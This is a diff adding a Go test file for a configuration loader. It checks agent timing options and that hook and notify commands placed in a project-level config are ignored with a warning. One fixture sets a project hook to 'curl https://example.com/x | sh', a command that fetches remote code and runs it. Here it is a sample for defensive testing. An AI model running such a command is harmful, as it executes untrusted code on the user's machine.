@@ -0,0 +1,97 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestAgentOptions_Durations(t *testing.T) {
+	var unset *AgentOptions
+	if unset.IntervalDuration() != DefaultAgentInterval || unset.WarnBeforeDuration() != DefaultAgentWarnBefore || unset.ClustersIntervalDuration() != DefaultAgentClustersInterval {
+		t.Error("Expected defaults without agent options")
+	}
+
+	opts := &AgentOptions{Interval: "30s", WarnBefore: "1h", ClustersInterval: "soon"}
+	if opts.IntervalDuration() != 30*time.Second {
+		t.Errorf("Expected 30s interval, got %v", opts.IntervalDuration())
+	}
+	if opts.WarnBeforeDuration() != time.Hour {
+		t.Errorf("Expected 1h warn_before, got %v", opts.WarnBeforeDuration())
+	}
+	if opts.ClustersIntervalDuration() != DefaultAgentClustersInterval {
+		t.Errorf("Expected the default for an invalid clusters_interval, got %v", opts.ClustersIntervalDuration())
+	}
+}
+
+func TestAgentOptions_Validate(t *testing.T) {
+	tests := []struct {
+		opts    *AgentOptions
+		wantErr bool
+	}{
+		{nil, false},
+		{&AgentOptions{Interval: "1m", WarnBefore: "15m", NotifyCommand: "notify-send"}, false},
+		{&AgentOptions{Interval: "often"}, true},
+		{&AgentOptions{WarnBefore: "-5m"}, true},
+		{&AgentOptions{ClustersInterval: "0s"}, true},
+	}
+
+	for _, tt := range tests {
+		if err := tt.opts.Validate(); (err != nil) != tt.wantErr {
+			t.Errorf("Validate(%+v) error = %v, wantErr %v", tt.opts, err, tt.wantErr)
+		}
+	}
+}
+
+func TestManager_Load_IgnoresProjectAgentCommands(t *testing.T) {
+	tempDir := t.TempDir()
+	configPath := filepath.Join(tempDir, "home", "config.json")
+	projectDir := filepath.Join(tempDir, "repo")
+	os.MkdirAll(filepath.Dir(configPath), 0755)
+	os.MkdirAll(projectDir, 0755)
+
+	os.WriteFile(configPath, []byte(`{"schema_version": 1, "agent": {"notify_command": "notify-send"}}`), 0644)
+	os.WriteFile(filepath.Join(projectDir, ProjectConfigName), []byte(`{
+		"agent": {"hook": "curl https://example.com/x | sh", "notify_command": "evil", "warn_before": "5m"}
+	}`), 0644)
+
+	manager := &Manager{configPath: configPath, systemPath: filepath.Join(tempDir, "none.json"), workDir: projectDir}
+
+	if ignored := ignoredLayerCommands(manager.Layers()); len(ignored) != 2 {
+		t.Errorf("Expected the project hook and notify_command to be reported, got %v", ignored)
+	}
+
+	// The warning is shown once however often the configuration is loaded
+	stderr, _ := os.CreateTemp(t.TempDir(), "stderr")
+	original := os.Stderr
+	os.Stderr = stderr
+	config, sources, err := manager.LoadWithSources()
+	manager.Load()
+	os.Stderr = original
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+	data, _ := os.ReadFile(stderr.Name())
+	if count := strings.Count(string(data), "Ignoring 'agent.hook'"); count != 1 {
+		t.Errorf("Expected the hook warning once, got %d times:\n%s", count, data)
+	}
+	if config.Agent.Hook != "" {
+		t.Errorf("Expected the project hook to be ignored, got %q", config.Agent.Hook)
+	}
+	if config.Agent.NotifyCommand != "notify-send" || sources.Lookup("agent.notify_command") != LayerUser {
+		t.Errorf("Expected the user notify_command to be kept, got %q from %s", config.Agent.NotifyCommand, sources.Lookup("agent.notify_command"))
+	}
+	if config.Agent.WarnBefore != "5m" {
+		t.Errorf("Expected other project agent options to apply, got %q", config.Agent.WarnBefore)
+	}
+
+	diagnostics, err := manager.Validate(ValidationOptions{})
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+	if d := findDiagnostic(diagnostics, "command-not-allowed", "agent.hook"); d == nil || d.Severity != SeverityWarning {
+		t.Errorf("Expected a command-not-allowed warning for agent.hook, got %+v", diagnostics)
+	}
+}